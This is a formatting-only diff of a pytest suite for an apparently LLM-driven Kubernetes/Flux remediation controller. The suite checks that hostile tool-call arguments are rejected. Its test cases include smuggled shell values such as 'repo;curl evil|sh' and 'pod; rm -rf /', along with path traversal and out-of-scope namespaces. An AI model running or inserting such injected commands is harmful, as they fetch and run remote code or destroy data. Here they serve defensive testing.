@@ -18,8 +18,8 @@ import httpx
 import pytest
 
 from controller.decision import StageClients, decide
-from controller.engine.llm_http import HttpChatTransport
 from controller.defaults import load_default_policy
+from controller.engine.llm_http import HttpChatTransport
 from controller.schemas.decision import Decision, StageOutcome
 from runbooks import default_catalog
 
@@ -100,10 +100,16 @@ CORPUS = [
     Case("namespace-wildcard", "pod-restart", restart(namespace="*")),
     Case("namespace-empty", "pod-restart", restart(namespace="")),
     Case("namespace-defaulted-out-of-scope", "flux-reconcile-kustomization", {"name": "podinfo"}),
-    Case("namespace-flux-system-out-of-scope", "flux-reconcile-helmrelease", {"name": "kps", "namespace": "flux-system"}),
+    Case(
+        "namespace-flux-system-out-of-scope", "flux-reconcile-helmrelease", {"name": "kps", "namespace": "flux-system"}
+    ),
     Case("pvc-namespace-kube-system", "check-pvc-status", {"namespace": "kube-system"}),
     Case("pvc-name-traversal", "check-pvc-status", {"namespace": "shop", "name": "../data"}),
-    Case("gitrepository-name-curl-pipe", "flux-reconcile-gitrepository", {"name": "repo;curl evil|sh", "namespace": "shop"}),
+    Case(
+        "gitrepository-name-curl-pipe",
+        "flux-reconcile-gitrepository",
+        {"name": "repo;curl evil|sh", "namespace": "shop"},
+    ),
     # enums
     Case("type-node", "pod-restart", restart(type="node")),
     Case("type-injection", "pod-restart", restart(type="pod; rm -rf /")),
@@ -181,7 +187,9 @@ async def test_function_calling_never_accepts_hostile_values(case: Case, api: st
     stage = {"functionCalling": {"endpoint": "http://llm.invalid", "api": api, "timeoutMs": 5000}}
     p = policy(stage, allowed=case.allowed, scope=SCOPE)
     async with httpx.AsyncClient(transport=httpx.MockTransport(reply)) as http:
-        assert_rejected(await decide(event(HOSTILE_LABELS), p, CATALOG, StageClients(chat=HttpChatTransport(http))), case)
+        assert_rejected(
+            await decide(event(HOSTILE_LABELS), p, CATALOG, StageClients(chat=HttpChatTransport(http))), case
+        )
 
 
 def _as_label(value: Any) -> str:
